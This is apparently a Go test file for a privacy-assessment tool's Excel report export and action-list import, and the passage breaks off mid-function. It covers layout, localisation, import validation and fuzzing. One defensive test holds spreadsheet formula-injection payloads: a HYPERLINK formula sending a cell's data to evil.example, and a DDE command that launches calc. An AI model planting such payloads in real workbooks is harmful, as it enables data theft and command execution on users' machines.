package reports

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/xuri/excelize/v2"

	"github.com/piaflow/piaflow"
	"github.com/piaflow/piaflow/assessments"
	"github.com/piaflow/piaflow/examples"
	"github.com/piaflow/piaflow/i18n"
	"github.com/piaflow/piaflow/policies"
)

// xlsxExample is one example questionnaire evaluated by the real engine.
type xlsxExample struct {
	name string
	doc  *Document
}

var (
	xlsxOnce     sync.Once
	xlsxExamples []xlsxExample
	xlsxCats     *i18n.Catalogs
	xlsxErr      error
)

// xlsxAsOf and xlsxAssessedAt pin the law applied and the report date.
var (
	xlsxAsOf       = time.Date(2026, 11, 25, 0, 0, 0, 0, time.UTC)
	xlsxAssessedAt = time.Date(2026, 11, 25, 14, 30, 0, 0, time.UTC)
)

// loadXLSXExamples evaluates every example questionnaire once, as documents with stored
// actions (ids 1…n).
func loadXLSXExamples(tb testing.TB) ([]xlsxExample, *i18n.Catalogs) {
	tb.Helper()
	xlsxOnce.Do(func() {
		xlsxCats, xlsxErr = i18n.Load()
		if xlsxErr != nil {
			return
		}
		eng, err := policies.Default()
		if err != nil {
			xlsxErr = err
			return
		}
		ev := assessments.NewEvaluator(eng)
		names, _ := fs.Glob(examples.FS, "*.yaml")
		for _, name := range names {
			d, err := xlsxEvaluate(ev, name)
			if err != nil {
				xlsxErr = fmt.Errorf("%s: %w", name, err)
				return
			}
			xlsxExamples = append(xlsxExamples, xlsxExample{name: strings.TrimSuffix(name, ".yaml"), doc: d})
		}
	})
	if xlsxErr != nil {
		tb.Fatal(xlsxErr)
	}
	if len(xlsxExamples) == 0 {
		tb.Fatal("no example questionnaires")
	}
	return xlsxExamples, xlsxCats
}

func xlsxEvaluate(ev *assessments.Evaluator, name string) (*Document, error) {
	src, err := examples.FS.ReadFile(name)
	if err != nil {
		return nil, err
	}
	q, err := assessments.Parse(src)
	if err != nil {
		return nil, err
	}
	a, err := ev.Assess(context.Background(), q, xlsxAsOf)
	if err != nil {
		return nil, err
	}
	acts := a.Actions()
	for i := range acts {
		acts[i].ID = uint64(i + 1)
	}
	return &Document{
		Deployment:    piaflow.Deployment{ID: 7, Name: q.Deployment.Name, Customer: q.Deployment.Customer, CustomerCountry: q.Deployment.CustomerCountry},
		Record:        piaflow.AssessmentRecord{ID: 11, CreatedAt: xlsxAssessedAt, ReviewState: piaflow.ReviewSubmitted, Reviewer: "dpo@example.com"},
		Revision:      3,
		Questionnaire: q, Assessment: a, Actions: acts, Comments: map[uint64]string{},
	}, nil
}

// xlsxExampleDoc is a copy of the named example's document whose actions can be changed.
func xlsxExampleDoc(tb testing.TB, name string) (*Document, *i18n.Catalogs) {
	tb.Helper()
	exs, cats := loadXLSXExamples(tb)
	for _, ex := range exs {
		if ex.name == name {
			d := *ex.doc
			d.Actions = slices.Clone(ex.doc.Actions)
			d.Comments = maps.Clone(ex.doc.Comments)
			return &d, cats
		}
	}
	tb.Fatalf("no example %s", name)
	return nil, nil
}

func writeXLSXBytes(tb testing.TB, d *Document, l *i18n.Localizer) []byte {
	tb.Helper()
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, d, l); err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes()
}

func openXLSX(tb testing.TB, b []byte) *excelize.File {
	tb.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { f.Close() })
	return f
}

// zipPart returns one part of the workbook package, e.g. xl/worksheets/sheet2.xml.
func zipPart(tb testing.TB, b []byte, name string) string {
	tb.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		tb.Fatal(err)
	}
	rc, err := zr.Open(name)
	if err != nil {
		tb.Fatal(err)
	}
	defer rc.Close()
	data, err := io.ReadAll(rc)
	if err != nil {
		tb.Fatal(err)
	}
	return string(data)
}

func cellValue(tb testing.TB, f *excelize.File, sheet, cell string) string {
	tb.Helper()
	v, err := f.GetCellValue(sheet, cell)
	if err != nil {
		tb.Fatal(err)
	}
	return v
}

func hasHan(s string) bool {
	for _, r := range s {
		if unicode.Is(unicode.Han, r) {
			return true
		}
	}
	return false
}

func sheetNames(l *i18n.Localizer) []string {
	keys := []string{sheetSummary, sheetActions, sheetFindings, sheetTransfers, sheetInventory, sheetQuestionnaire}
	out := make([]string, len(keys))
	for i, k := range keys {
		out[i] = l.T(k)
	}
	return out
}

// TestWriteXLSXExamples writes every example in every language and reads the workbook back.
func TestWriteXLSXExamples(t *testing.T) {
	exs, cats := loadXLSXExamples(t)
	for _, ex := range exs {
		for _, lang := range i18n.Languages() {
			t.Run(ex.name+"/"+lang, func(t *testing.T) {
				l := cats.Get(lang)
				b := writeXLSXBytes(t, ex.doc, l)
				f := openXLSX(t, b)
				if got, want := f.GetSheetList(), sheetNames(l); !slices.Equal(got, want) {
					t.Fatalf("sheets %q, want %q", got, want)
				}
				checkActionsSheet(t, f, b, ex.doc, l)
				checkOtherSheets(t, f, ex.doc, l)
				if lang == i18n.SimplifiedChinese {
					checkChinese(t, f, ex.doc, l, cats.Get(i18n.English))
				}
			})
		}
	}
}

func checkActionsSheet(t *testing.T, f *excelize.File, b []byte, d *Document, l *i18n.Localizer) {
	t.Helper()
	sheet := l.T(sheetActions)
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range xlsxActionCols {
		if got := rows[0][i]; got != l.T(c.key) {
			t.Errorf("header %d = %q, want %q", i, got, l.T(c.key))
		}
	}
	n := len(d.Assessment.Findings)
	if len(rows)-1 != n {
		t.Fatalf("%d action rows, want %d (one per finding)", len(rows)-1, n)
	}
	checkActionsLayout(t, f, b, n+1, l)
	if n == 0 {
		return
	}
	a, fd := d.Actions[0], d.Assessment.Findings[0]
	want := map[string]string{
		"A2": "1", "B2": l.FindingTitle(fd), "C2": l.ActionTitle(fd), "E2": citeRef(l, fd.Regime, fd.Citation),
		"F2": l.T("enum.severity." + a.Severity), "G2": l.T("enum.owner." + a.Owner),
		"J2": l.T("status.open"), "L2": a.FindingKey,
	}
	for cell, w := range want {
		if got := cellValue(t, f, sheet, cell); got != w {
			t.Errorf("%s = %q, want %q", cell, got, w)
		}
	}
	// the links are the official text in the workbook's language (url_zh for zh-CN where the
	// data has one)
	ok, target, err := f.GetCellHyperLink(sheet, "E2")
	if want := l.CitationURL(fd.Citation); err != nil || !ok || target != want {
		t.Errorf("E2 hyperlink = %v %q %v, want %q", ok, target, err, want)
	}
	checkDueDates(t, f, d)
	lastRow := strconv.Itoa(n + 1)
	a = d.Actions[n-1]
	lastURL := a.CitationURL
	for _, lf := range d.Assessment.Findings {
		if lf.Key == a.FindingKey {
			lastURL = l.CitationURL(lf.Citation)
		}
	}
	if ok, target, err := f.GetCellHyperLink(sheet, "E"+lastRow); err != nil || !ok || target != lastURL {
		t.Errorf("E%s hyperlink = %v %q %v, want %q", lastRow, ok, target, err, lastURL)
	}
	if ok, target, err := f.GetCellHyperLink(l.T(sheetFindings), "H2"); err != nil || !ok || target != l.CitationURL(fd.Citation) {
		t.Errorf("findings H2 hyperlink = %v %q %v, want %q", ok, target, err, l.CitationURL(fd.Citation))
	}
}

// checkDueDates wants every due date as a number with a date format and no due date empty.
func checkDueDates(t *testing.T, f *excelize.File, d *Document) {
	t.Helper()
	sheet := f.GetSheetName(1)
	for i, a := range d.Actions {
		cell := "I" + strconv.Itoa(i+2)
		raw, err := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		if a.Due == "" {
			if raw != "" {
				t.Errorf("%s = %q, want empty (no due date)", cell, raw)
			}
			continue
		}
		if typ, _ := f.GetCellType(sheet, cell); typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
			t.Errorf("%s is a string cell, want a date", cell)
		}
		serial, err := strconv.ParseFloat(raw, 64)
		if err != nil {
			t.Errorf("%s raw value %q is not a date serial", cell, raw)
			continue
		}
		due, _ := time.Parse(time.DateOnly, a.Due)
		if got, _ := excelize.ExcelDateToTime(serial, false); !got.Equal(due) {
			t.Errorf("%s = %v, want %s", cell, got, a.Due)
		}
		id, _ := f.GetCellStyle(sheet, cell)
		st, err := f.GetStyle(id)
		if err != nil || st.CustomNumFmt == nil || *st.CustomNumFmt != "yyyy-mm-dd" {
			t.Errorf("%s style %+v (%v), want number format yyyy-mm-dd", cell, st, err)
		}
		if got := cellValue(t, f, sheet, cell); got != a.Due {
			t.Errorf("%s shows %q, want %q", cell, got, a.Due)
		}
	}
}

// checkActionsLayout checks the status list, frozen header, filter, conditional formats and
// page setup of the Actions sheet, whose table ends at row last.
func checkActionsLayout(t *testing.T, f *excelize.File, b []byte, last int, l *i18n.Localizer) {
	t.Helper()
	sheet := l.T(sheetActions)
	end := strconv.Itoa(max(last, 2))
	dvs, err := f.GetDataValidations(sheet)
	if err != nil || len(dvs) != 1 {
		t.Fatalf("data validations %v %v, want one", dvs, err)
	}
	if dvs[0].Sqref != "J2:J"+end || dvs[0].Type != "list" {
		t.Errorf("data validation %s %s, want a list on J2:J%s", dvs[0].Type, dvs[0].Sqref, end)
	}
	for _, st := range piaflow.ActionStatuses() {
		if !strings.Contains(dvs[0].Formula1, l.T("status."+st)) {
			t.Errorf("status list %s lacks %q", dvs[0].Formula1, l.T("status."+st))
		}
	}
	panes, err := f.GetPanes(sheet)
	if err != nil || !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
		t.Errorf("panes %+v %v, want the header row frozen", panes, err)
	}
	xml := zipPart(t, b, "xl/worksheets/sheet2.xml")
	if want := fmt.Sprintf(`<autoFilter ref="A1:L%d"`, last); !strings.Contains(strings.ReplaceAll(xml, "$", ""), want) {
		t.Errorf("sheet XML lacks %s", want)
	}
	var cols []int
	for _, m := range regexp.MustCompile(`<col min="(\d+)"`).FindAllStringSubmatch(xml, -1) {
		n, _ := strconv.Atoi(m[1])
		cols = append(cols, n)
	}
	if len(cols) != len(xlsxActionCols) || !slices.IsSorted(cols) {
		t.Errorf("column widths for columns %v, want 1…%d in order", cols, len(xlsxActionCols))
	}
	cfs, err := f.GetConditionalFormats(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if rules := cfs["I2:I"+end]; len(rules) != 1 || rules[0].Type != "formula" || !strings.Contains(rules[0].Criteria, "TODAY()") {
		t.Errorf("overdue format on I2:I%s = %+v", end, rules)
	}
	sev := cfs["A2:L"+end]
	if len(sev) != len(xlsxSeverityFills) {
		t.Fatalf("severity formats on A2:L%s = %+v", end, sev)
	}
	if want := `$F2="` + l.T("enum.severity.blocker") + `"`; sev[0].Type != "formula" || sev[0].Criteria != want {
		t.Errorf("blocker format %+v, want formula %s", sev[0], want)
	}
	checkPrintSetup(t, f, sheet)
}

func checkPrintSetup(t *testing.T, f *excelize.File, sheet string) {
	t.Helper()
	pl, err := f.GetPageLayout(sheet)
	if err != nil || pl.Orientation == nil || *pl.Orientation != "landscape" ||
		pl.FitToWidth == nil || *pl.FitToWidth != 1 || pl.FitToHeight == nil || *pl.FitToHeight != 0 {
		t.Errorf("page layout %+v %v, want landscape, 1 page wide", pl, err)
	}
	props, err := f.GetSheetProps(sheet)
	if err != nil || props.FitToPage == nil || !*props.FitToPage {
		t.Errorf("sheet props %+v %v, want fit to page", props, err)
	}
	found := false
	for _, dn := range f.GetDefinedName() {
		if dn.Name == "_xlnm.Print_Titles" && dn.Scope == sheet && strings.HasSuffix(dn.RefersTo, "!$1:$1") {
			found = true
		}
	}
	if !found {
		t.Errorf("no print titles for %s: %+v", sheet, f.GetDefinedName())
	}
}

func checkOtherSheets(t *testing.T, f *excelize.File, d *Document, l *i18n.Localizer) {
	t.Helper()
	summary, err := f.GetRows(l.T(sheetSummary))
	if err != nil {
		t.Fatal(err)
	}
	pairs := map[string]string{}
	for _, r := range summary {
		if len(r) >= 2 {
			pairs[r[0]] = r[1]
		}
	}
	for key, want := range map[string]string{
		"xlsx.summary.deployment": d.Deployment.Name, "xlsx.summary.assessment_id": "11",
		"xlsx.summary.verdict": l.T("verdict." + d.Assessment.Verdict), "xlsx.summary.policy_digest": d.Assessment.PolicyDigest,
		"xlsx.summary.dpia": l.T("dpia.level." + d.Assessment.DPIA.Level), "xlsx.summary.assessed_at": "2026-11-25 14:30",
	} {
		if got := pairs[l.T(key)]; got != want {
			t.Errorf("summary %s = %q, want %q", l.T(key), got, want)
		}
	}
	wantRows := map[string]int{
		sheetFindings:  len(d.Assessment.Findings),
		sheetTransfers: len(d.Assessment.Transfers),
		sheetInventory: 0,
	}
	for _, a := range d.Questionnaire.Activities {
		wantRows[sheetInventory] += len(a.DataSubjects)
	}
	if n := len(d.Assessment.Localisation); n > 0 {
		wantRows[sheetTransfers] += 3 + n // blank row, heading, header
	}
	for key, n := range wantRows {
		rows, err := f.GetRows(l.T(key))
		if err != nil {
			t.Fatal(err)
		}
		if len(rows)-1 != n {
			t.Errorf("sheet %s has %d rows under the header, want %d", l.T(key), len(rows)-1, n)
		}
	}
	checkTransferRecipients(t, f, d, l)
	checkQuestionnaireSheet(t, f, d, l)
}

// checkTransferRecipients: the recipient column names each transfer's recipient, and an onward
// transfer's hop under it.
func checkTransferRecipients(t *testing.T, f *excelize.File, d *Document, l *i18n.Localizer) {
	t.Helper()
	rows, err := f.GetRows(l.T(sheetTransfers))
	if err != nil {
		t.Fatal(err)
	}
	for i, tr := range d.Assessment.Transfers {
		want := tr.Recipient
		if tr.Hop > 0 {
			want += "\n" + l.T("report.onward_hop", "hop", strconv.Itoa(tr.Hop))
		}
		if r := rows[i+1]; len(r) < 9 || r[8] != want {
			t.Errorf("transfer %d (%s): recipient cell %q, want %q", i, tr.Via, r, want)
		}
	}
}

func checkQuestionnaireSheet(t *testing.T, f *excelize.File, d *Document, l *i18n.Localizer) {
	t.Helper()
	rows, err := f.GetRows(l.T(sheetQuestionnaire))
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, r := range rows[1:] {
		got[r[0]] = strings.Join(r[1:], "")
	}
	q := d.Questionnaire
	for path, want := range map[string]string{
		"deployment.name":                          q.Deployment.Name,
		"activities[0].name":                       q.Activities[0].Name,
		"activities[0].data_subjects[0].countries": strings.Join(q.Activities[0].DataSubjects[0].Countries, ", "),
		"activities[0].data_categories":            strings.Join(q.Activities[0].DataCategories, ", "),
		"security.mfa":                             strconv.FormatBool(q.Security.MFA),
		"hosting[0].provider":                      q.Hosting[0].Provider,
	} {
		if v, ok := got[path]; !ok || v != want {
			t.Errorf("questionnaire %s = %q (%v), want %q", path, v, ok, want)
		}
	}
}

// checkChinese wants Chinese headers and sheet names, and the status label of the catalogue.
func checkChinese(t *testing.T, f *excelize.File, d *Document, zh, en *i18n.Localizer) {
	t.Helper()
	sheet := zh.T(sheetActions)
	if !hasHan(sheet) {
		t.Errorf("Actions sheet name %q is not Chinese", sheet)
	}
	for i := range xlsxActionCols {
		cell, _ := excelize.CoordinatesToCellName(i+1, 1)
		if v := cellValue(t, f, sheet, cell); !hasHan(v) {
			t.Errorf("header %s = %q, want Chinese", cell, v)
		}
	}
	if len(d.Actions) == 0 {
		return
	}
	label := cellValue(t, f, sheet, "J2")
	if label != zh.T("status.open") {
		t.Errorf("status J2 = %q, want %q", label, zh.T("status.open"))
	}
	if !hasHan(label) || label == en.T("status.open") {
		t.Errorf("status J2 = %q, want a Chinese label", label)
	}
}

// TestWriteXLSXDeterministic wants the same bytes for the same document, dated by AssessedAt.
func TestWriteXLSXDeterministic(t *testing.T) {
	d, cats := xlsxExampleDoc(t, "hospital-ehr-germany")
	l := cats.Get(i18n.English)
	a, b := writeXLSXBytes(t, d, l), writeXLSXBytes(t, d, l)
	if !bytes.Equal(a, b) {
		t.Error("two writes of the same document differ")
	}
	props, err := openXLSX(t, a).GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	if want := "2026-11-25T14:30:00Z"; props.Created != want || props.Modified != want {
		t.Errorf("created %s, modified %s, want %s", props.Created, props.Modified, want)
	}
}

// xlsxPayloads are cell texts a spreadsheet would run as formulas if they were not text.
var xlsxPayloads = []string{
	`=HYPERLINK("https://evil.example/?d="&A1,"Click me")`,
	"+1",
	"-2",
	"@SUM(A1)",
	"=1+1",
	"\t=cmd|' /C calc'!A0",
	"\r=2+2",
}

// TestWriteXLSXFormulaInjection puts formula-like text in every user-supplied field and wants
// it back as text, never as a formula.
func TestWriteXLSXFormulaInjection(t *testing.T) {
	d, cats := xlsxExampleDoc(t, "hospital-ehr-germany")
	q := *d.Questionnaire
	q.Activities = slices.Clone(q.Activities)
	a := *d.Assessment
	a.Transfers = slices.Clone(a.Transfers)
	d.Questionnaire, d.Assessment = &q, &a
	p := xlsxPayloads
	d.Deployment.Name, d.Deployment.Customer = p[0], p[1]
	d.Record.Reviewer, d.Record.ReviewComment = p[2], p[3]
	q.Deployment.Name = p[4]
	q.Activities[0].Name, q.Activities[0].Purposes = p[5], []string{p[6]}
	a.Transfers[0].Recipient, a.Transfers[0].Activity = p[0], p[3]
	for i := range d.Actions {
		d.Actions[i].Assignee = p[i%len(p)]
		d.Comments[d.Actions[i].ID] = p[(i+1)%len(p)]
	}
	b := writeXLSXBytes(t, d, cats.Get(i18n.English))
	f := openXLSX(t, b)
	seen := map[string]int{}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				if !slices.Contains(p, v) {
					continue
				}
				seen[v]++
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
					t.Errorf("%s!%s holds formula %q (%v)", sheet, cell, formula, err)
				}
			}
		}
	}
	for _, v := range p {
		if seen[v] == 0 {
			t.Errorf("payload %q not found as the exact text of any cell", v)
		}
	}
	for i := 1; i <= len(f.GetSheetList()); i++ {
		xml := zipPart(t, b, fmt.Sprintf("xl/worksheets/sheet%d.xml", i))
		if strings.Contains(xml, "<f>") || strings.Contains(xml, "<f ") {
			t.Errorf("sheet%d.xml has a formula element", i)
		}
	}
	xml := zipPart(t, b, "xl/worksheets/sheet2.xml")
	if !regexp.MustCompile(`<c r="H2"[^>]* t="inlineStr"><is><t>=HYPERLINK`).MatchString(xml) {
		t.Errorf("H2 is not an inline string cell holding the text")
	}
}

// editXLSX opens a workbook, applies edit and saves it.
func editXLSX(t *testing.T, b []byte, edit func(f *excelize.File, sheet string)) []byte {
	t.Helper()
	f := openXLSX(t, b)
	edit(f, f.GetSheetName(1))
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func setCells(t *testing.T, f *excelize.File, sheet string, cells map[string]any) {
	t.Helper()
	for cell, v := range cells {
		if err := f.SetCellValue(sheet, cell, v); err != nil {
			t.Fatal(err)
		}
	}
}

// TestReadActionImportRoundTrip edits an exported action list and reads the edits back, in
// both languages.
func TestReadActionImportRoundTrip(t *testing.T) {
	d, cats := xlsxExampleDoc(t, "logistics-china-vietnam")
	if len(d.Actions) < 5 {
		t.Fatalf("want an example with at least 5 actions, got %d", len(d.Actions))
	}
	d.Actions[3].Assignee, d.Comments[d.Actions[3].ID] = "li.wei", "waiting for the CAC filing"
	en := cats.Get(i18n.English)
	for _, lang := range i18n.Languages() {
		t.Run(lang, func(t *testing.T) {
			l := cats.Get(lang)
			b := editXLSX(t, writeXLSXBytes(t, d, l), func(f *excelize.File, sheet string) {
				setCells(t, f, sheet, map[string]any{
					"J2": l.T("status.done"),
					"K3": "checked with the DPO",
					"H3": "anna",
					"J4": en.T("status.in_progress"), // a label of the other language
					"J5": "risk_accepted",            // the code
				})
			})
			edits, err := ReadActionImport(bytes.NewReader(b))
			if err != nil {
				t.Fatal(err)
			}
			if len(edits) != len(d.Actions) {
				t.Fatalf("%d edits, want %d", len(edits), len(d.Actions))
			}
			want := map[int]piaflow.ActionEdit{
				2: {Row: 2, ID: 1, Key: d.Actions[0].FindingKey, Status: piaflow.ActionDone},
				3: {Row: 3, ID: 2, Key: d.Actions[1].FindingKey, Status: piaflow.ActionOpen, Assignee: "anna", Comment: "checked with the DPO"},
				4: {Row: 4, ID: 3, Key: d.Actions[2].FindingKey, Status: piaflow.ActionInProgress},
				5: {Row: 5, ID: 4, Key: d.Actions[3].FindingKey, Status: piaflow.ActionRiskAccepted, Assignee: "li.wei", Comment: "waiting for the CAC filing"},
				6: {Row: 6, ID: 5, Key: d.Actions[4].FindingKey, Status: piaflow.ActionOpen},
			}
			for _, e := range edits {
				if w, ok := want[e.Row]; ok && e != w {
					t.Errorf("row %d: got %+v, want %+v", e.Row, e, w)
				}
			}
		})
	}
}

// TestReadActionImportBadRows wants every bad row reported with its row number and column.
func TestReadActionImportBadRows(t *testing.T) {
	d, cats := xlsxExampleDoc(t, "logistics-china-vietnam")
	l := cats.Get(i18n.SimplifiedChinese)
	exported := writeXLSXBytes(t, d, l)
	tests := []struct {
		name  string
		cells map[string]any
		want  []piaflow.ImportProblem
	}{
		{"UnknownStatus", map[string]any{"J3": "finished"},
			[]piaflow.ImportProblem{{Row: 3, Column: "Status", Message: `"finished" is not a status (open, in progress, done, risk accepted)`}}},
		{"IDNotANumber", map[string]any{"A4": "abc"},
			[]piaflow.ImportProblem{{Row: 4, Column: "ID", Message: `"abc" is not an action id (a positive whole number)`}}},
		{"IDZero", map[string]any{"A4": 0},
			[]piaflow.ImportProblem{{Row: 4, Column: "ID", Message: `"0" is not an action id (a positive whole number)`}}},
		{"IDMissing", map[string]any{"A2": ""},
			[]piaflow.ImportProblem{{Row: 2, Column: "ID", Message: "missing: every row needs the id of its action"}}},
		{"StatusMissing", map[string]any{"J2": ""},
			[]piaflow.ImportProblem{{Row: 2, Column: "Status", Message: "missing: choose one of open, in progress, done, risk accepted"}}},
		{"DuplicateID", map[string]any{"A5": 1},
			[]piaflow.ImportProblem{{Row: 5, Column: "ID", Message: "1 is already on row 2"}}},
		{"All", map[string]any{"J3": "finished", "A4": "abc", "A6": 2, "J6": "?"},
			[]piaflow.ImportProblem{
				{Row: 3, Column: "Status", Message: `"finished" is not a status (open, in progress, done, risk accepted)`},
				{Row: 4, Column: "ID", Message: `"abc" is not an action id (a positive whole number)`},
				{Row: 6, Column: "Status", Message: `"?" is not a status (open, in progress, done, risk accepted)`},
				{Row: 6, Column: "ID", Message: "2 is already on row 3"},
			}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := editXLSX(t, exported, func(f *excelize.File, sheet string) { setCells(t, f, sheet, tt.cells) })
			edits, err := ReadActionImport(bytes.NewReader(b))
			var ie *piaflow.ImportError
			if !errors.As(err, &ie) {
				t.Fatalf("got %d edits, error %v; want an *ImportError", len(edits), err)
			}
			if !slices.EqualFunc(ie.Problems, tt.want, func(a, b piaflow.ImportProblem) bool {
				return a.Row == b.Row && a.Column == b.Column && a.Message == b.Message && a.Forbidden == b.Forbidden && a.Msg != nil
			}) {
				t.Errorf("rows\n%+v\nwant\n%+v", ie.Problems, tt.want)
			}
			if want := tt.want[0].String(); !strings.Contains(err.Error(), want) {
				t.Errorf("message %q lacks %q", err, want)
			}
			for _, p := range ie.Problems { // every row's message reads in Chinese (the cell's text quoted), in English as before
				en, _ := zhImport.Get(i18n.English).Message(p.Msg)
				zh, _ := zhImport.Get(i18n.SimplifiedChinese).Message(p.Msg)
				if en != p.Message || !regexp.MustCompile(`\p{Han}`).MatchString(zh) || regexp.MustCompile(`[a-z]{3,}`).MatchString(regexp.MustCompile(`"[^"]*"`).ReplaceAllString(zh, "")) {
					t.Errorf("row %d: English %q, Chinese %q", p.Row, en, zh)
				}
			}
		})
	}
}

// zhImport are the catalogues the import tests render messages with.
var zhImport = i18n.MustLoad()

// TestReadActionImportSkipsEmptyRows wants empty rows skipped and row numbers as Excel shows
// them.
func TestReadActionImportSkipsEmptyRows(t *testing.T) {
	d, cats := xlsxExampleDoc(t, "logistics-china-vietnam")
	b := editXLSX(t, writeXLSXBytes(t, d, cats.Get(i18n.English)), func(f *excelize.File, sheet string) {
		if err := f.RemoveRow(sheet, 3); err != nil {
			t.Fatal(err)
		}
		if err := f.InsertRows(sheet, 3, 2); err != nil {
			t.Fatal(err)
		}
		setCells(t, f, sheet, map[string]any{"J6": "Done"})
	})
	edits, err := ReadActionImport(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	if len(edits) != len(d.Actions)-1 {
		t.Fatalf("%d edits, want %d", len(edits), len(d.Actions)-1)
	}
	if e := edits[1]; e.Row != 5 || e.ID != 3 {
		t.Errorf("second edit %+v, want row 5, id 3", e)
	}
	if e := edits[2]; e.Row != 6 || e.ID != 4 || e.Status != piaflow.ActionDone {
		t.Errorf("third edit %+v, want row 6, id 4, done", e)
	}
	far := streamXLSX(t, func(add func(string, ...any)) {
		add("A1", "ID", "Key", "Status", "Assignee", "Comment")
		add("A2", 1, "k", "open")
		add("C1048576", "open")
	})
	_, err = ReadActionImport(bytes.NewReader(far))
	var ie *piaflow.ImportError
	if !errors.As(err, &ie) || len(ie.Problems) != 1 || ie.Problems[0].Row != 1048576 || ie.Problems[0].Column != "ID" {
		t.Errorf("a status on the last row: %v, want a missing ID on row 1048576", err)
	}
}

// TestReadActionImportNotActionList wants a clear error, never a panic, for files that are
// not action lists.
func TestReadActionImportNotActionList(t *testing.T) {
	d, cats := xlsxExampleDoc(t, "logistics-china-vietnam")
	exported := writeXLSXBytes(t, d, cats.Get(i18n.English))
	oneSheet := func() []byte {
		f := excelize.NewFile()
		defer f.Close()
		var buf bytes.Buffer
		if err := f.Write(&buf); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}()
	var zipped bytes.Buffer
	zw := zip.NewWriter(&zipped)
	w, _ := zw.Create("hello.txt")
	_, _ = w.Write([]byte("hello"))
	_ = zw.Close()
	tests := []struct {
		name string
		in   []byte
		want string
	}{
		{"Garbage", []byte("this is not a workbook \x00\x01\x02"), "not an Excel workbook"},
		{"Empty", nil, "not an Excel workbook"},
		{"PlainZip", zipped.Bytes(), "not an Excel workbook"},
		{"Truncated", exported[:len(exported)/2], "not an Excel workbook"},
		{"NoActionsSheet", oneSheet, `no sheet named "Actions" or "整改事项"`},
		{"WideRows", wideRowsXLSX(t, 2000), "too large"},
		{"NoStatusColumn", editXLSX(t, exported, func(f *excelize.File, sheet string) {
			if err := f.RemoveCol(sheet, "J"); err != nil {
				t.Fatal(err)
			}
		}), `no column Status (or "状态")`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			edits, err := ReadActionImport(bytes.NewReader(tt.in))
			if err == nil {
				t.Fatalf("got %d edits, want an error", len(edits))
			}
			if !errors.Is(err, ErrNotActionList) || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error %q, want ErrNotActionList mentioning %q", err, tt.want)
			}
		})
	}
}

// streamXLSX is a workbook whose only sheet, Actions, has the given rows, in order: a row
// number, the first cell and the values.
func streamXLSX(t *testing.T, rows func(add func(cell string, values ...any))) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	if err := f.SetSheetName("Sheet1", "Actions"); err != nil {
		t.Fatal(err)
	}
	sw, err := f.NewStreamWriter("Actions")
	if err != nil {
		t.Fatal(err)
	}
	rows(func(cell string, values ...any) {
		if err := sw.SetRow(cell, values); err != nil {
			t.Fatal(err)
		}
	})
	if err := sw.Flush(); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// wideRowsXLSX is an action list whose rows have a value in the last column (XFD), which
// makes excelize work through 16,384 columns per row.
func wideRowsXLSX(t *testing.T, rows int) []byte {
	return streamXLSX(t, func(add func(string, ...any)) {
		add("A1", "ID", "Key", "Status", "Assignee", "Comment")
		for i := 2; i <= rows+1; i++ {
			add("XFD"+strconv.Itoa(i), 1)
		}
	})
}

// TestXLSXLeaves checks the questionnaire walk (shared with the PDF's appendix) on a small
// document: the keys' order is kept, lists of plain values are joined.
func TestXLSXLeaves(t *testing.T) {
	raw := `{"b":{"x":1,"y":[true,false],"z":null},"a":[{"k":"v"},{"k":"w","l":[]}],"s":"=1"}`
	ans, err := answersOf([]byte(raw))
	if err != nil {
		t.Fatal(err)
	}
	got := ans.leaves()
	want := [][2]string{{"b.x", "1"}, {"b.y", "true, false"}, {"b.z", ""}, {"a[0].k", "v"}, {"a[1].k", "w"}, {"a[1].l", ""}, {"s", "=1"}}
	if !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

// FuzzReadActionImport feeds arbitrary bytes to the importer: it must return edits or an
// error, never panic.
func FuzzReadActionImport(f *testing.F) {
	d, cats := xlsxExampleDoc(f, "logistics-china-vietnam")
	f.Add(writeXLSXBytes(f, d, cats.Get(i18n.English)))
	f.Add([]byte("PK\x03\x04"))
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, b []byte) {
		edits, err := ReadActionImport(bytes.NewReader(b))
		if err == nil {
			for _, e := range edits {
				if e.ID == 0 || !slices.Contains(piaflow.ActionStatuses(), e.Status) {
					t.Errorf("accepted edit %+v", e)
				}
			}
		}
	})
}

// TestXLSXChineseLaw: the zh-CN workbook cites Chinese law by its official Chinese name and
// article, names laws and countries instead of showing their codes; the English one keeps the
// English citations. (The reasons the policies write stay English until they become messages,
// issue 14 item 1, so "PIPL Art. 3: …" may still appear in a reason.)
func TestXLSXChineseLaw(t *testing.T) {
	exs, cats := loadXLSXExamples(t)
	var doc *Document
	for _, ex := range exs {
